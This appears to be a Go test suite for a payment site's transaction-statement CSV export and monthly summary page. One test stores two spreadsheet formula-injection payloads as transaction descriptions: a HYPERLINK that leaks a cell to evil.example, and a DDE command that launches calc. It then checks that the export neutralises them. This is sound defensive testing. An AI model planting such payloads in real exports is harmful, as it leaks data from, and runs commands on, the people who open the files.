package handlers_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"

	"im2pay/account"
	"im2pay/ledger"
	"im2pay/spend"
	"im2pay/statement"
	"im2pay/wallet"
)

// stmtPerson registers name and returns their browser and user row.
func stmtPerson(t *testing.T, s *site, name string) (*browser, account.User) {
	t.Helper()
	b := s.browser()
	b.register(name, goodPassword)
	u, err := s.accounts.UserByName(context.Background(), name)
	if err != nil {
		t.Fatal(err)
	}
	return b, u
}

func stmtGrant(t *testing.T, s *site, u account.User, amount wallet.Money, key, description string) {
	t.Helper()
	if _, err := s.wallet.Grant(context.Background(), u.ID, amount, key, description); err != nil {
		t.Fatal(err)
	}
}

// stmtSpend pays amount out of u's wallet the way every spending area does:
// DebitTx inside the store's transaction.
func stmtSpend(t *testing.T, s *site, u account.User, amount wallet.Money, kind ledger.Kind, key string) {
	t.Helper()
	ctx := context.Background()
	revenue, err := s.spend.SystemAccount(ctx, "revenue:test")
	if err != nil {
		t.Fatal(err)
	}
	err = s.store.InTx(ctx, func(tx *sqlx.Tx) error {
		_, err := s.spend.DebitTx(ctx, tx, spend.Debit{UserID: u.ID, Amount: amount, To: revenue, Key: key,
			Kind: kind, Reference: "test:" + key, Description: "test"})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

// stmtCSV downloads an export and parses it, checking what every export
// must have: the type, the BOM, and a header row.
func stmtCSV(t *testing.T, b *browser, path string) (answer, [][]string) {
	t.Helper()
	a := b.get(path)
	expectStatus(t, a, http.StatusOK)
	if ct := a.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("Content-Type = %q", ct)
	}
	body, ok := strings.CutPrefix(a.body, "\xEF\xBB\xBF")
	if !ok {
		t.Fatalf("the CSV does not start with the UTF-8 BOM: %q", a.body[:min(len(a.body), 20)])
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) == 0 {
		t.Fatalf("unreadable CSV (%v):\n%s", err, body)
	}
	return a, rows
}

var zhHeader = []string{"时间", "类型", "说明", "金额（元）", "变动后余额（元）", "关联单号"}

func TestTheStatementPagesNeedALogin(t *testing.T) {
	s := newSite(t)
	b := s.browser()
	expectRedirect(t, b.get("/history/export.csv"), "/login?next=%2Fhistory%2Fexport.csv")
	expectRedirect(t, b.get("/history/summary"), "/login?next=%2Fhistory%2Fsummary")
}

func TestTheCSVHasTheBOMAHeaderAndOneRowPerHistoryLineThatSumToTheBalance(t *testing.T) {
	s := newSite(t)
	b, u := stmtPerson(t, s, "alice")
	stmtGrant(t, s, u, 100_00, "grant:a1", "welcome_grant")
	stmtSpend(t, s, u, 12_50, ledger.Purchase, "buy-1")
	stmtGrant(t, s, u, 5_05, "grant:a2", "signup_grant")
	stmtSpend(t, s, u, 6_60, ledger.Gift, "gift-1")

	a, rows := stmtCSV(t, b, "/history/export.csv")
	today := s.clock.Now().In(shanghai(t)).Format("2006-01-02")
	if cd, want := a.header.Get("Content-Disposition"), `attachment; filename="im2pay-statement-start-`+today+`.csv"`; cd != want {
		t.Fatalf("Content-Disposition = %q, want %q", cd, want)
	}
	if !slices.Equal(rows[0], zhHeader) {
		t.Fatalf("header = %q", rows[0])
	}
	want := [][]string{
		{"赠送", "新用户欢迎礼金", "100.00", "100.00", "user:" + strconv.FormatInt(u.ID, 10)},
		{"购买", "测试记录", "-12.50", "87.50", "test:buy-1"},
		{"赠送", "注册赠送", "5.05", "92.55", "user:" + strconv.FormatInt(u.ID, 10)},
		{"礼物", "测试记录", "-6.60", "85.95", "test:gift-1"},
	}
	if len(rows)-1 != len(want) {
		t.Fatalf("%d rows, want %d: %q", len(rows)-1, len(want), rows)
	}
	var sum wallet.Money
	for i, row := range rows[1:] {
		if !slices.Equal(row[1:], want[i]) {
			t.Errorf("row %d = %q, want %q", i+1, row[1:], want[i])
		}
		if _, err := time.ParseInLocation("2006-01-02 15:04:05", row[0], shanghai(t)); err != nil {
			t.Errorf("row %d: time %q: %v", i+1, row[0], err)
		}
		m, err := wallet.ParseMoney(strings.TrimPrefix(row[3], "-"))
		if err != nil {
			t.Fatalf("row %d: amount %q: %v", i+1, row[3], err)
		}
		if strings.HasPrefix(row[3], "-") {
			m = -m
		}
		sum += m
	}
	bal, err := s.ledger.Balance(context.Background(), u.WalletID)
	if err != nil {
		t.Fatal(err)
	}
	if sum != wallet.Money(bal) || rows[len(rows)-1][4] != wallet.Money(bal).Yuan() {
		t.Fatalf("amounts sum to %s and the last balance is %s; the wallet holds %s", sum, rows[len(rows)-1][4], wallet.Money(bal))
	}

	// The same lines as the history page shows, newest first there.
	history := regexp.MustCompile(`data-testid="record"[\s\S]*?data-fen="(-?\d+)"`).FindAllStringSubmatch(b.get("/history").body, -1)
	if len(history) != len(want) {
		t.Fatalf("history shows %d lines, the CSV %d", len(history), len(want))
	}
	for i, m := range history {
		fen, _ := strconv.ParseInt(m[1], 10, 64)
		if got := rows[len(rows)-1-i][3]; got != wallet.Money(fen).Yuan() {
			t.Errorf("history line %d is %s fen, CSV says %s", i+1, m[1], got)
		}
	}

	b.header.Set("Accept-Language", "en")
	_, rows = stmtCSV(t, b, "/history/export.csv")
	header := []string{"Time", "Kind", "Description", "Amount (CNY)", "Balance after (CNY)", "Reference"}
	if !slices.Equal(rows[0], header) || rows[1][1] != "Grant" || rows[1][2] != "Welcome credit" {
		t.Fatalf("the English export begins %q", rows[:2])
	}
}

func TestTheCSVAppliesTheFilterAndAnEmptyRangeIsJustTheHeader(t *testing.T) {
	s := newSite(t)
	b, u := stmtPerson(t, s, "alice")
	stmtGrant(t, s, u, 50_00, "grant:f1", "welcome_grant")
	stmtSpend(t, s, u, 1_00, ledger.Purchase, "buy-1")
	stmtSpend(t, s, u, 2_00, ledger.Charge, "charge-1")

	_, rows := stmtCSV(t, b, "/history/export.csv?kind=purchase")
	if len(rows) != 2 || rows[1][3] != "-1.00" {
		t.Fatalf("kind=purchase gave %q", rows)
	}
	today := s.clock.Now().In(shanghai(t))
	_, rows = stmtCSV(t, b, "/history/export.csv?from="+today.Format("2006-01-02")+"&to="+today.Format("2006-01-02"))
	if len(rows) != 4 {
		t.Fatalf("today's range gave %d rows, want header + 3", len(rows))
	}
	a, rows := stmtCSV(t, b, "/history/export.csv?from=2001-01-01&to=2001-01-31")
	if len(rows) != 1 || !slices.Equal(rows[0], zhHeader) {
		t.Fatalf("a range with no lines gave %q", rows)
	}
	if cd := a.header.Get("Content-Disposition"); cd != `attachment; filename="im2pay-statement-2001-01-01-2001-01-31.csv"` {
		t.Fatalf("Content-Disposition = %q", cd)
	}
	tomorrow := today.AddDate(0, 0, 1).Format("2006-01-02")
	if _, rows = stmtCSV(t, b, "/history/export.csv?from="+tomorrow); len(rows) != 1 {
		t.Fatalf("from tomorrow gave %q", rows)
	}

	bad := b.get("/history/export.csv?from=2026-13-01")
	expectStatus(t, bad, http.StatusUnprocessableEntity)
	expectContains(t, bad, "日期格式应为")
	expectStatus(t, b.get("/history/export.csv?kind=nonsense"), http.StatusUnprocessableEntity)
}

func TestAFormulaInADescriptionIsNeutralisedAndAmountsStayNumbers(t *testing.T) {
	s := newSite(t)
	b, u := stmtPerson(t, s, "alice")
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	stmtGrant(t, s, u, 10_00, "grant:evil", evil)
	stmtGrant(t, s, u, 1_00, "grant:plus", "+1+cmd|' /C calc'!A0")
	stmtSpend(t, s, u, 3_00, ledger.Purchase, "buy-1")

	_, rows := stmtCSV(t, b, "/history/export.csv")
	if len(rows) != 4 {
		t.Fatalf("rows = %q", rows)
	}
	if rows[1][2] != "'"+evil || rows[2][2] != "'+1+cmd|' /C calc'!A0" {
		t.Fatalf("descriptions not neutralised: %q, %q", rows[1][2], rows[2][2])
	}
	if rows[3][3] != "-3.00" || rows[1][3] != "10.00" {
		t.Fatalf("amounts must be bare numbers: %q, %q", rows[1][3], rows[3][3])
	}
}

func TestAnotherUsersLinesNeverAppear(t *testing.T) {
	s := newSite(t)
	alice, ua := stmtPerson(t, s, "alice")
	_, ub := stmtPerson(t, s, "bob")
	stmtGrant(t, s, ua, 10_00, "grant:alice", "welcome_grant")
	stmtGrant(t, s, ub, 777_77, "grant:bob", "welcome_grant")
	stmtSpend(t, s, ub, 66_66, ledger.Gift, "bob-gift")

	a, rows := stmtCSV(t, alice, "/history/export.csv")
	if len(rows) != 2 {
		t.Fatalf("alice's CSV has %d lines, want 1: %q", len(rows)-1, rows)
	}
	expectLacks(t, a, "777.77", "66.66", "bob-gift", "user:"+strconv.FormatInt(ub.ID, 10))
	expectLacks(t, alice.get("/history/summary"), `data-fen="77777"`, `data-fen="6666"`)
}

func TestALongStatementStreamsPageAfterPageWithNoLineLostOrRepeated(t *testing.T) {
	s := newSite(t)
	b, u := stmtPerson(t, s, "busy")
	n := 2*statement.StatementPageSize + 7
	stmtRaw(t, s, u, n, 1, ledger.Grant, "bulk", time.Now())

	a, rows := stmtCSV(t, b, "/history/export.csv")
	if a.header.Get("Content-Length") != "" {
		t.Fatalf("a streamed export has no Content-Length, got %q", a.header.Get("Content-Length"))
	}
	if len(rows)-1 != n {
		t.Fatalf("%d lines, want %d", len(rows)-1, n)
	}
	for i, row := range rows[1:] {
		if want := wallet.Money(i + 1).Yuan(); row[4] != want || row[3] != "0.01" {
			t.Fatalf("line %d: amount %s balance %s, want 0.01 and %s", i+1, row[3], row[4], want)
		}
	}
}

func TestTheSummaryShowsEachMonthsMoneyInAndOutByKindWithBarsForMonthsThatMovedMoney(t *testing.T) {
	s := newSite(t)
	b, u := stmtPerson(t, s, "alice")
	stmtGrant(t, s, u, 100_00, "grant:s1", "welcome_grant")
	stmtGrant(t, s, u, 50_00, "grant:s2", "welcome_grant")
	stmtSpend(t, s, u, 12_50, ledger.Purchase, "buy-1")
	stmtSpend(t, s, u, 6_60, ledger.Gift, "gift-1")
	stmtSpend(t, s, u, 10, ledger.Charge, "charge-1")
	stmtSpend(t, s, u, 1_00, ledger.Purchase, "buy-2")

	page := b.get("/history/summary")
	expectStatus(t, page, http.StatusOK)
	expectContains(t, page, "月度汇总", "<svg", `data-testid="total-in"`)
	expectLacks(t, page, "style=")
	if in, out := stmtFen(t, "total-in", page.body), stmtFen(t, "total-out", page.body); in != "15000" || out != "2020" {
		t.Fatalf("totals in %s out %s, want 15000 and 2020", in, out)
	}
	month := s.clock.Now().In(shanghai(t)).Format("2006-01")
	row := stmtMonthRow(t, page.body, month)
	if in, out := stmtFen(t, "month-in", row), stmtFen(t, "month-out", row); in != "15000" || out != "2020" {
		t.Fatalf("%s: in %s out %s, want 15000 and 2020", month, in, out)
	}
	expectContains(t, answer{body: row}, "购买 ¥13.50", "礼物 ¥6.60", "扣费 ¥0.10")
	for kind, want := range map[string]string{"purchase": "1350", "gift": "660", "charge": "10"} {
		m := regexp.MustCompile(`data-kind="` + kind + `">[\s\S]*?data-fen="(\d+)"`).FindStringSubmatch(page.body)
		if m == nil || m[1] != want {
			t.Errorf("money out by kind %s = %v, want %s", kind, m, want)
		}
	}

	// Only this month moved money: its two bars, money in and out, and no
	// bar for the eleven empty months.
	bars := regexp.MustCompile(`<rect[^>]*data-testid="summary-bar" data-month="(\d{4}-\d{2})" data-series="(in|out)"`).FindAllStringSubmatch(page.body, -1)
	if len(bars) != 2 || bars[0][1] != month || bars[1][1] != month || bars[0][2] != "in" || bars[1][2] != "out" {
		t.Fatalf("bars %v, want money in and out for %s alone", bars, month)
	}
	if n := strings.Count(page.body, `height="0"`); n != 0 {
		t.Errorf("%d empty bars, want none (empty months are left out)", n)
	}
	expectContains(t, page, `data-testid="summary-value">¥150.00<`, `data-testid="summary-value">¥20.20<`,
		`data-testid="summary-tick">¥150.00<`, `data-testid="summary-tick">¥0.00<`, "按北京时间分月")
	b.header.Set("Accept-Language", "en")
	expectContains(t, b.get("/history/summary"), "Monthly summary", "Purchase ¥13.50")
}

func TestTheHistoryPageLinksTheExportOfItsFilterAndTheSummary(t *testing.T) {
	s := newSite(t)
	b, _ := stmtPerson(t, s, "alice")
	page := b.get("/history?kind=grant&from=2026-01-01")
	expectContains(t, page, `href="/history/export.csv?from=2026-01-01&amp;kind=grant"`, `href="/history/summary"`)
	expectContains(t, b.get("/history"), `href="/history/export.csv"`)

	links := b.get("/history/links?kind=purchase&from=&to=2026-02-01", "HX-Request", "true")
	expectStatus(t, links, http.StatusOK)
	expectContains(t, links, `id="statement-links"`, `href="/history/export.csv?kind=purchase&amp;to=2026-02-01"`)
	expectLacks(t, links, "<html")
	expectRedirect(t, b.get("/history/links?kind=purchase"), "/history?kind=purchase")
}

func TestTheSummaryCutsMonthsWhereTheReadersCalendarDoes(t *testing.T) {
	s := newSite(t)
	b, u := stmtPerson(t, s, "alice")
	sh := shanghai(t)
	now := s.clock.Now().In(sh)
	lastMonth := time.Date(now.Year(), now.Month()-1, 1, 0, 0, 0, 0, sh)
	// Half past midnight on the 1st in Shanghai is still the month before in
	// UTC; half an hour earlier is the month before in Shanghai too.
	stmtRaw(t, s, u, 1, 20_00, ledger.Grant, "early", lastMonth.Add(30*time.Minute))
	stmtRaw(t, s, u, 1, -3_00, ledger.Purchase, "late", lastMonth.Add(-30*time.Minute))
	stmtRaw(t, s, u, 1, 9_99, ledger.Grant, "too-old", time.Date(now.Year(), now.Month()-12, 28, 12, 0, 0, 0, sh))

	page := b.get("/history/summary")
	expectStatus(t, page, http.StatusOK)
	if in, out := stmtFen(t, "total-in", page.body), stmtFen(t, "total-out", page.body); in != "2000" || out != "300" {
		t.Fatalf("totals in %s out %s, want 2000 and 300 (the 13-month-old grant left out)", in, out)
	}
	for month, want := range map[time.Time][2]string{lastMonth: {"2000", "0"}, lastMonth.AddDate(0, -1, 0): {"0", "300"}} {
		row := stmtMonthRow(t, page.body, month.Format("2006-01"))
		if in, out := stmtFen(t, "month-in", row), stmtFen(t, "month-out", row); in != want[0] || out != want[1] {
			t.Errorf("%s: in %s out %s, want %s and %s", month.Format("2006-01"), in, out, want[0], want[1])
		}
	}
	// The largest amount (money in last month) has the tallest bar; each
	// other bar is to its scale, and a month's side that moved nothing, none.
	for _, b := range []struct {
		month          time.Time
		series, height string
	}{{lastMonth, "in", "132"}, {lastMonth, "out", "0"}, {lastMonth.AddDate(0, -1, 0), "out", "19"}, {lastMonth.AddDate(0, -1, 0), "in", "0"}} {
		bar := `height="` + b.height + `"[^>]*data-testid="summary-bar" data-month="` + b.month.Format("2006-01") + `" data-series="` + b.series + `"`
		if !regexp.MustCompile(bar).MatchString(page.body) {
			t.Errorf("no %s bar of height %s for %s", b.series, b.height, b.month.Format("2006-01"))
		}
	}
}

// stmtRaw posts n transactions of amount (signed, as u's wallet sees it)
// against the grants account, dated at, in one SQL statement: the triggers
// keep balances as ledger.Post would, posted entries cannot be moved in time
// afterwards, and a thousand separate postings would only slow the suite.
func stmtRaw(t *testing.T, s *site, u account.User, n int, amount wallet.Money, kind ledger.Kind, key string, at time.Time) {
	t.Helper()
	const q = `
		WITH t AS (INSERT INTO ledger_transactions (idempotency_key, request_hash, kind, reference, description, created_at)
		           SELECT 'raw:' || $1 || ':' || i, '\x00'::bytea, $2, 'test:' || $1, 'test', $6
		             FROM generate_series(1, $5::int) i
		           RETURNING id)
		INSERT INTO ledger_entries (transaction_id, account_id, amount, created_at)
		SELECT t.id, e.account_id, e.amount, $6
		  FROM t CROSS JOIN LATERAL (VALUES ($3::bigint, $4::bigint),
		       ((SELECT id FROM accounts WHERE code = 'grants'), -$4::bigint)) e(account_id, amount)
		 ORDER BY t.id`
	if _, err := s.store.DB().ExecContext(context.Background(), q, key, kind, u.WalletID, int64(amount), n, at); err != nil {
		t.Fatal(err)
	}
}

// stmtFen reads the amount in fen shown by the element with testid.
func stmtFen(t *testing.T, testid, html string) string {
	t.Helper()
	m := regexp.MustCompile(`data-testid="` + testid + `"[^>]*>\s*<span[^>]*data-fen="(-?\d+)"`).FindStringSubmatch(html)
	if m == nil {
		t.Fatalf("no %s in:\n%.3000s", testid, html)
	}
	return m[1]
}

// stmtMonthRow is the summary table's row for month ("2026-11").
func stmtMonthRow(t *testing.T, html, month string) string {
	t.Helper()
	row := regexp.MustCompile(`(?s)<tr data-testid="summary-month" data-month="` + month + `">(.*?)</tr>`).FindStringSubmatch(html)
	if row == nil {
		t.Fatalf("the summary has no row for %s", month)
	}
	return row[1]
}

func shanghai(t *testing.T) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Fatal(fmt.Errorf("the site runs in Asia/Shanghai: %w", err))
	}
	return loc
}
